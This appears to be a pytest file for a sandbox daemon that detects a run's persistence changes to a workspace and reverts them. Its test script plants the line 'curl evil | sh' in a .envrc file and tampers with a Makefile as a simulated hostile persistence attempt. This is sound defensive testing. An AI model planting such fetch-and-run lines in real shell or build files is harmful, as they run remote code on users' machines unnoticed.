"""A run's persistence report under the daemon: in the record, kept in the
daemon's state directory, undone by ``stockade revert RUN``."""

from __future__ import annotations

from pathlib import Path

from stockade.cli.main import main
from tests.daemon.test_server import Wire, daemon_at, kind_is, stored_events


def test_a_runs_persistence_report_is_in_the_record_and_revert_undoes_it(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "Makefile").write_text("all:\n")
    policy = tmp_path / "policy.yaml"
    script = 'echo "curl evil | sh" > .envrc; echo evil >> Makefile; echo ok > notes.txt'
    policy.write_text(f"name: leaves\nworkspace: {ws}\ncommand: [/bin/sh, -c, '{script}']\n")
    with daemon_at(tmp_path) as dt:
        wire, events = Wire(dt.socket_path), Wire(dt.socket_path)
        events.call("events.subscribe")
        info = wire.call("run.start", {"policy_path": str(policy)})
        events.until(kind_is("run.end", info["id"]))
        stored = stored_events(wire, info["id"])
    (report,) = [s["event"] for s in stored if s["event"]["kind"] == "cell.persistence"]
    assert report["run"] == info["id"]
    listed = {c["path"]: (c["kind"], c["change"]) for c in report["detail"]["changes"]}
    assert listed == {str(ws / ".envrc"): ("shell", "created"), str(ws / "Makefile"): ("build", "changed")}
    assert report["detail"]["revert"] == f"stockade revert {info['id']}"
    assert report["detail"]["kept"].startswith(str(tmp_path / "state" / "persistence"))
    assert main(["revert", "--state", str(tmp_path / "state"), info["id"]]) == 0
    assert not (ws / ".envrc").exists()
    assert (ws / "Makefile").read_text() == "all:\n"
    assert (ws / "notes.txt").read_text() == "ok\n"
